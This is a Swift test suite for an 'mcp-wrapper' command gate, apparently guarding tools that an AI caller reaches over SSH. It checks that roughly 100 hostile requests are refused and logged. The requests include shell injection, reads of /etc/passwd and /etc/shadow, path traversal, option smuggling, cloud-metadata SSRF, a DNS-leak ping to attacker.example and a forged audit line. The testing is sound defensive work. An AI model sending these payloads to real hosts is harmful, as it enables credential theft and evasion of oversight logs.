import Foundation
import InfraSSH
import InfraTestSupport
import Testing

@Suite("mcp-wrapper holds against a hostile caller that owns the reader key", requiresRoot)
struct WrapperAttackTests {
    /// Requests a hostile caller might send. `STATE` becomes the target's state directory.
    static let attacks: [String] = [
        // Shell metacharacters: nothing is ever parsed by a shell, and the grammar refuses them.
        "version; id", "version && id", "version || id", "version | id", "version $(id)", "version `id`",
        "version\nid", "version\rid", "version & id", "version > /tmp/pwned", "version < /etc/passwd",
        "log-tail path=STATE/logs/app.log;cat /etc/passwd", "journal grep=a|b", "journal since=$(id)",
        "journal since=1h;id", "dns 'x'", "dns \"x\"", "dns \\x", "processes sort=cpu*", "units state=r?nning",
        // Extra operands and malformed arguments.
        "log-tail path=STATE/logs/app.log /etc/passwd", "log-tail path=STATE/logs/app.log extra=1",
        "log-tail path=STATE/logs/app.log path=/etc/passwd", "kernel --all", "dns extra=1", "os x",
        "process pid=1,2", "connections state=listening", "version timeout=0", "version timeout=999",
        // Path escapes: .., symlinks, prefix tricks, roots not allowed.
        "log-tail path=/var/log/../../etc/passwd", "log-tail path=STATE/logs/../../../etc/passwd",
        "log-tail path=/etc/passwd", "log-tail path=/etc/shadow", "log-tail path=STATE/logs/escape",
        "log-tail path=STATE/logsx/app.log", "log-tail path=STATE/logs/./app.log", "log-search path=/etc/passwd grep=root",
        "log-tail path=STATE/logs", "largest-dirs path=/etc", "largest-dirs path=STATE/../..", "log-tail path=relative/app.log",
        // Option smuggling: everything journalctl/systemctl/ss must never see.
        "journal --file=/etc/passwd", "journal file=/etc/passwd", "journal --cursor-file=/tmp/pwned",
        "journal cursor-file=/tmp/pwned", "journal -D /tmp", "journal directory=/tmp", "journal --root=/", "journal root=/",
        "journal -M other", "journal machine=other", "journal --vacuum-size=1K", "journal vacuum-time=1s",
        "journal --rotate", "journal rotate=1", "journal --rot", "journal -f", "journal --follow", "journal follow=1",
        "journal --fol", "journal unit=--file=/etc/passwd", "journal unit=-f", "units -H evil", "units host=evil",
        "units --host=evil", "unit-status unit=-H", "unit-status unit=--host=evil", "unit-status unit=a;b",
        "unit-status unit=x host=evil", "ping host=-f", "ping host=127.0.0.1 count=1 flood=1", "container-logs name=-f",
        "container-logs name=--follow", "http-check url=file:///etc/passwd", "http-check url=http://x output=/tmp/pwned",
        "http-check url=http://127.0.0.1/--output=/tmp/pwned?x", "journal priority=--all",
        // Egress and naming outside the host's lists (issue 13): metadata, SSRF to other ports and names, DNS leaks.
        "http-check url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http-check url=http://127.0.0.1:2019/config/",
        "http-check url=http://127.0.0.1.attacker.example/", "http-check url=https://[::1]/", "ping host=c2VjcmV0.attacker.example",
        "ping host=169.254.169.254", "ping host=fe80::1", "container-logs name=other", "ping host=127.0.0.2 count=1",
        // Oversize numbers.
        "journal lines=100000", "journal lines=99999999999999999999", "journal lines=-5", "journal lines=0",
        "processes limit=501", "ping host=127.0.0.1 count=6", "log-tail path=STATE/logs/app.log lines=1e9",
        "process pid=99999999",
        // Control characters, very long input, unknown verbs, empty and odd spacing.
        "version\u{01}", "version\tid", "version\u{1b}[2J", "kernel\u{7f}", String(repeating: "a", count: 2000),
        "journal grep=" + String(repeating: "x", count: 1100), "rm", "cat /etc/passwd", "sh", "OS", "",
        " os", "os ", "journal  lines=5",
    ]

    @Test("At least 60 attacks, each refused (exit 64 or 77), nothing read, nothing written, each logged as refused")
    func attacksAreRefused() async throws {
        #expect(Self.attacks.count >= 60)
        try await SystemTarget.with { t in
            // A symlink escape and a prefix-trick directory next to the allowed log root.
            try FileManager.default.createSymbolicLink(atPath: t.state + "/logs/escape", withDestinationPath: "/etc/passwd")
            try FileManager.default.createDirectory(atPath: t.state + "/logsx", withIntermediateDirectories: true)
            try "secret\n".write(toFile: t.state + "/logsx/app.log", atomically: true, encoding: .utf8)
            let before = t.auditLines().count
            for attack in Self.attacks {
                let request = attack.replacingOccurrences(of: "STATE", with: t.state)
                let result = try await t.read(request)
                #expect(result.exitCode == 64 || result.exitCode == 77, "not refused: \(request.debugDescription) → \(String(describing: result.exitCode))")
                #expect(result.stdout.isEmpty, "read something: \(request.debugDescription) → \(result.stdoutText)")
                #expect(result.stderrText.hasPrefix("mcp-wrapper: refused: "), "\(request.debugDescription): \(result.stderrText)")
            }
            #expect(!FileManager.default.fileExists(atPath: "/tmp/pwned"))
            let lines = await t.auditLines(count: before + Self.attacks.count)
            let new = lines.dropFirst(before)
            #expect(new.count == Self.attacks.count)
            #expect(new.allSatisfy { $0.contains("mcp-wrapper: refused ") })
            // Control characters in a request never reach the log raw: one line per request, no escape codes.
            #expect(!lines.joined().contains("\u{1b}"))
        }
    }

    @Test("A refused request forges no audit line: newlines arrive escaped inside one line")
    func auditLinesCannotBeForged() async throws {
        try await SystemTarget.with { t in
            let before = t.auditLines().count
            let forged = "version\nmcp-wrapper: accepted user=root verb=everything"
            let result = try await t.read(forged)
            #expect(result.exitCode == 64)
            let lines = await t.auditLines(count: before + 1)
            #expect(lines.count == before + 1)
            #expect(lines.last?.contains("refused") == true)
            #expect(lines.last?.contains("$'version\\nmcp-wrapper: accepted") == true)
        }
    }
}
